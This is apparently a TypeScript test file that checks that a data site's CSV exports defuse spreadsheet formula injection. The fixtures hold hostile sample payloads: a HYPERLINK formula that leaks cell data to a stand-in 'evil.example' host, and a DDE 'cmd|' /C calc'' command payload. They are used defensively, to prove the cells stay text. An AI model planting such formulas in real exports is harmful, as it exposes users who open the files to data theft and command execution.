/**
 * Issue 12, finding 4: a title, place or target group that starts like a spreadsheet formula
 * (=HYPERLINK(…), +1, -1, @SUM) must reach no published CSV as a formula. Every CSV writer (the
 * collection files, the per-list files, the browser's filtered lists, the requirement annex) goes
 * through one function, which prefixes such a cell with an apostrophe and quotes it (OWASP's advice);
 * the JSON keeps the true value, and numbers we write ourselves stay numbers.
 */
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvField, neutraliseFormula } from '../../src/outputs/csv.ts';
import { caseListColumns, collectionCsv, collectionRecords, dataPackage, toCsv, type ExportLinks } from '../../src/outputs/export.ts';
import { filterCsv } from '../../src/outputs/list-downloads.ts';
import { annexCsv } from '../../src/outputs/annex/formats.ts';
import { deriveCatalogue } from '../../src/lib/catalogue.ts';
import { copd, fixtureCase, fixtureEvent, fixtureMethod, fixtureOrganisation, heartFailure } from './fixtures.ts';
import { labels, rows } from '../annex/fixtures.ts';

const links: ExportLinks = { entryUrl: (entry) => `https://commons.example.org/en/${entry.collection}/${entry.id}/` };

const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
const attack = fixtureCase('formula-case', {
  title: FORMULA,
  place: '+1+1',
  targetGroup: ['@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3', '\t=1', '\r=1', '＝1+1'],
  scale: { users: 12 },
  summary: 'A case whose fields start like spreadsheet formulas, to prove they stay text.',
});
const control = fixtureCase('plain-case', { title: 'A plain title', place: 'Luleå' });
const catalogue = deriveCatalogue({
  cases: [attack, control],
  methods: [fixtureMethod('formula-method', { title: '-1 starts with a minus' })],
  events: [fixtureEvent('formula-event', { title: '@event', city: '=1+1' })],
  requirements: [],
  topics: [copd, heartFailure],
  organisations: [fixtureOrganisation('region-a', { name: '+46 Region' })],
});

function parse(text: string): Record<string, string>[] {
  expect(text.charCodeAt(0)).toBe(0xfeff);
  const parsed = Papa.parse<Record<string, string>>(text.slice(1), { header: true, skipEmptyLines: true, newline: '\r\n' });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

/** What a spreadsheet would run: a cell starting with = + - @ (or their full-width forms), tab or CR. */
const runsAsFormula = (cell: string) => /^[=+\-@\t\r＝＋－＠]/.test(cell);

describe('one function makes every CSV cell', () => {
  it('prefixes a text that starts like a formula with an apostrophe and quotes it', () => {
    expect(csvField('=1+1')).toBe(`"'=1+1"`);
    expect(csvField('+46 70')).toBe(`"'+46 70"`);
    expect(csvField('-5')).toBe(`"'-5"`);
    expect(csvField('@SUM(A1)')).toBe(`"'@SUM(A1)"`);
    expect(csvField('\t=1')).toBe(`"'\t=1"`);
    expect(csvField('\r=1')).toBe(`"'\r=1"`);
    expect(csvField('＝1+1')).toBe(`"'＝1+1"`);
    expect(csvField('＠x')).toBe(`"'＠x"`);
    expect(csvField('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
  });

  it('leaves ordinary text, and numbers the site writes itself, as they are', () => {
    // The control: the same function without a formula in sight changes nothing.
    expect(csvField('Östersund')).toBe('Östersund');
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField('a, b')).toBe('"a, b"');
    expect(csvField(-5)).toBe('-5');
    expect(csvField(1498164)).toBe('1498164');
    expect(csvField(true)).toBe('true');
    expect(csvField(undefined)).toBe('');
    expect(neutraliseFormula("'already quoted")).toBe("'already quoted");
  });
});

describe('the published CSV files', () => {
  it('cases.csv: the formula cells are text, the plain row is untouched, the JSON keeps the true value', () => {
    const csv = collectionCsv(catalogue, 'cases', links);
    const data = parse(csv);
    const row = data.find((r) => r.id === 'formula-case')!;
    expect(row.title).toBe(`'${FORMULA}`);
    expect(row.place).toBe("'+1+1");
    expect(row.targetGroup).toBe(`'@SUM(1+1)*cmd|' /C calc'!A0; -2+3; \t=1; \r=1; ＝1+1`);
    expect(row.scaleUsers).toBe('12');
    expect(data.find((r) => r.id === 'plain-case')!.title).toBe('A plain title');
    for (const r of data) for (const cell of Object.values(r)) expect(runsAsFormula(cell), cell).toBe(false);
    // The raw file holds no field that opens with a formula character, quoted or not.
    expect(csv).not.toMatch(/(^|,|\r\n)"?[=+\-@＝＋－＠]/);

    const json = collectionRecords(catalogue, 'cases', links) as { id: string; title: string; place: string }[];
    const record = json.find((r) => r.id === 'formula-case')!;
    expect(record.title).toBe(FORMULA);
    expect(record.place).toBe('+1+1');
  });

  it('methods.csv, events.csv and organisations.csv neutralise theirs too', () => {
    expect(parse(collectionCsv(catalogue, 'methods', links))[0]!.title).toBe("'-1 starts with a minus");
    const event = parse(collectionCsv(catalogue, 'events', links))[0]!;
    expect(event.title).toBe("'@event");
    expect(event.city).toBe("'=1+1");
    expect(parse(collectionCsv(catalogue, 'organisations', links))[0]!.name).toBe("'+46 Region");
  });

  it('the per-list files (data/lists/…) neutralise the same cells', () => {
    const data = parse(toCsv(caseListColumns, catalogue.cases, catalogue, links));
    expect(data.find((r) => r.id === 'formula-case')!.title).toBe(`'${FORMULA}`);
    for (const r of data) for (const cell of Object.values(r)) expect(runsAsFormula(cell)).toBe(false);
  });

  it('a list cut in the browser keeps the neutralised rows', () => {
    const cut = parse(filterCsv(collectionCsv(catalogue, 'cases', links), ['formula-case']));
    expect(cut).toHaveLength(1);
    expect(cut[0]!.title).toBe(`'${FORMULA}`);
  });

  it('the requirement annex CSV neutralises with the same function', () => {
    const data = Papa.parse<string[]>(annexCsv(rows, labels).slice(1), { skipEmptyLines: true }).data;
    expect(data.flat().filter(runsAsFormula)).toEqual([]);
    expect(data.flat()).toContain('\'=HYPERLINK("http://evil.example","klikk") looks like a formula');
  });
});

describe('no CSV writer of its own', () => {
  const src = fileURLToPath(new URL('../../src/', import.meta.url));
  const files = (dir: string): string[] =>
    readdirSync(dir, { withFileTypes: true }).flatMap((d) => (d.isDirectory() ? files(path.join(dir, d.name)) : /\.(ts|astro)$/.test(d.name) ? [path.join(dir, d.name)] : []));

  it('only src/outputs/csv.ts quotes CSV fields (RFC 4180), so no writer can skip the formula rule', () => {
    const quoting = files(src).filter((file) => /\[",\\r\\n\]|\[",\\n\\r\]|\[\\r\\n",\]/.test(readFileSync(file, 'utf8')));
    expect(quoting.map((file) => path.relative(src, file))).toEqual(['outputs/csv.ts']);
  });
});

describe('a date without a year', () => {
  it('is text in the CSV (a spreadsheet would compute --01-25 as -24), as written in the JSON, and the data package says so', () => {
    const events = deriveCatalogue({ ...catalogue, events: [fixtureEvent('yearless', { start: '--01-25' })] });
    expect(parse(collectionCsv(events, 'events', links))[0]!.start).toBe("'--01-25");
    expect((collectionRecords(events, 'events', links) as { start: string }[])[0]!.start).toBe('--01-25');
    const description = dataPackage(events, {
      name: 'x',
      title: 'x',
      siteUrl: 'https://commons.example.org/',
      dataUrl: (f) => `https://commons.example.org/data/${f}`,
      schemaUrl: (c) => `https://commons.example.org/schemas/${c}.json`,
      licence: { id: 'CC0-1.0', url: 'https://creativecommons.org/publicdomain/zero/1.0/' },
      created: '2024-01-01',
    }).resources.find((r: { name: string }) => r.name === 'events-csv')!.description;
    expect(description).toContain('has an apostrophe in front');
  });
});
